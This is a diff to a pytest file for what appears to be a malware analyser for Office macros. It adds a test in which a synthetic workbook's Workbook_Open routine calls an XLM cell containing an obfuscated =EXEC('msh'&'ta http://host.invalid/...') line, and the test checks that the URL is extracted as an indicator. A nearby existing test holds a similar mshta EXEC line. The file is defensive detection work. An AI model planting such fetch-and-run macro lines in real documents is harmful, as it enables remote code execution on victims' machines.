@@ -336,6 +336,14 @@ def test_visual_basic_that_starts_macros_joins_the_chain(format):  # noqa: A002
     )
 
 
+@pytest.mark.parametrize(("name", "origin"), [('"Macro" & Chr(49) & "!C1"', "emulated"), ('"Macro1!A1"', "decoded")])
+def test_where_visual_basic_computes_what_it_runs_every_column_is_followed(name, origin):
+    cells = {"A1": "=HALT()", "C1": '=EXEC("msh"&"ta http://host.invalid/c")', "C2": "=HALT()"}
+    source = f"Sub Workbook_Open()\n  Application.Run {name}\nEnd Sub\n"
+    data = workbook("xlsm", xlm={"Macro1": cells}, macros={"Module1": source}, names={"Auto_Open": "Macro1!$A$1"})
+    assert ("url", "http://host.invalid/c", origin) in indicators(data)
+
+
 def test_visual_basic_that_is_not_read_is_a_gap_and_the_macros_are_followed():
     data = workbook(
         "xlsm", xlm={"Macro1": {"A1": '=EXEC("mshta http://host.invalid/a")'}}, macros={"M": "Sub A()\nEnd Sub\n"}
